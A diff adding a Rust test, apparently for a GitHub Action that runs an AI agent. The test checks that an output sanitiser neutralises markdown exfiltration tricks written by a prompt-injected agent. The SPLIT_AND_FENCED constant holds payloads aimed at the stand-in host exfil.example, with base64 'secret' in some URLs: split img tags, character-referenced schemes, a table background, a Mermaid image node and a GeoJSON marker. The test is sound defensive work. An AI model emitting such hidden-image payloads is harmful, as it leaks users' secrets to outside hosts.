@@ -115,3 +115,84 @@ pub(crate) async fn every_text_the_agent_writes_leaves_with_its_foreign_links_in
         r.summary
     );
 }
+
+/// What an injected agent writes to get a live tag or a rendered fence past the rewrite (issue
+/// #42): a tag cut over two lines of a block quote and of a list item's quote, its scheme written
+/// with a character reference; a block-level tag cut at the line's end after a quote's lazy
+/// line; a Mermaid diagram with an image node and a GeoJSON map with a URL. Each puts
+/// exfil.example on the page as GitHub renders it (checked below); the Mermaid diagram without a
+/// URL at the end must stay as written.
+const SPLIT_AND_FENCED: &str = "> quote <img\n> src=\"https&#58;//exfil.example/q.png?d=c2VjcmV0\">\n\n\
+- item\n  > <img\n  > src=https&#x3A;//exfil.example/l.png>\n\n\
+> x\n<table\nbackground=\"https&#58;//exfil.example/t.png\">\n\n\
+```mermaid\ngraph TD\n  A[<img src='https://exfil.example/m.png?d=c2VjcmV0'>] --> B\n```\n\n\
+~~~geojson\n{\"type\":\"Feature\",\"properties\":{\"marker\":\"https://exfil.example/g.png\"}}\n~~~\n\n";
+
+const CLEAN_DIAGRAM: &str = "```mermaid\ngraph TD\n  C --> D\n```";
+
+/// The URLs to exfil.example GitHub's parser would put on the page for `text`.
+fn live_exfil(text: &str) -> Vec<String> {
+    crate::outbound::live_urls(&[text.to_string()])
+        .remove(0)
+        .into_iter()
+        .filter(|u| u.to_ascii_lowercase().contains("exfil.example"))
+        .collect()
+}
+
+/// An injected agent's answer and its `comment` proposal carry the split-tag and fence forms:
+/// both leave with no live link or image to exfil.example as GitHub's parser renders them, the
+/// fences that held one are posted as code (`text mermaid`), the clean diagram stays as written,
+/// and the summary's Links row counts them. Takes the launch, so the image can run it too.
+pub(crate) async fn split_tags_and_rendered_fences_leave_with_nothing_live(launch: Launch) {
+    let attack = format!("{SPLIT_AND_FENCED}{CLEAN_DIAGRAM}");
+    // Each form is one as GitHub reads it.
+    for form in SPLIT_AND_FENCED.split("\n\n").filter(|f| !f.is_empty()) {
+        assert!(!live_exfil(form).is_empty(), "not live as written: {form}");
+    }
+    let world = World::start_with(launch).await;
+    world.github.seed_issue(9, "Look into it", "x");
+    let mut job = world.job(3410);
+    job.set("GITHUB_SERVER_URL", world.github.url.clone());
+    job.owned_by_runner_user(1001);
+    job.input("allowed-domains", "docs.rs");
+    world.github.seed_git_repo(&job.workspace());
+    world.llm.push(Reply::tool(
+        tool("comment"),
+        json!({"number": 9, "body": format!("Proposal.\n\n{attack}")}),
+    ));
+    world.llm.push(Reply::text(format!("Done.\n\n{attack}")));
+    job.event("issue_comment", &comment_event(9, 902, "@fro-bot look"));
+    let (_job, r) = main_step(job).await;
+    assert_eq!(r.code, 0, "{}", explain(&r));
+
+    let comments = world.github.created_comments();
+    let comment = comments
+        .iter()
+        .map(|(_, body)| body)
+        .find(|b| b.contains("Proposal."))
+        .unwrap_or_else(|| panic!("the comment tool's comment: {comments:?}"));
+    let answer = super::changes::answer(&world);
+    for (what, text) in [("the comment", comment), ("the answer", &answer)] {
+        assert_eq!(live_exfil(text), Vec::<String>::new(), "{what}: {text}");
+        assert!(text.contains("```text mermaid"), "{what}: {text}");
+        assert!(text.contains("~~~text geojson"), "{what}: {text}");
+        assert!(text.contains(CLEAN_DIAGRAM), "{what}: {text}");
+        assert!(text.contains("&lt;img"), "{what}: {text}");
+    }
+    assert!(
+        r.summary.contains("| Links | ") && r.summary.contains("`exfil.example` ×"),
+        "{}",
+        r.summary
+    );
+}
+
+/// The scenario above as the built binary.
+mod binary {
+    #[tokio::test]
+    async fn split_tags_and_rendered_fences_leave_with_nothing_live() {
+        super::split_tags_and_rendered_fences_leave_with_nothing_live(
+            crate::support::action::Launch::Binary,
+        )
+        .await;
+    }
+}
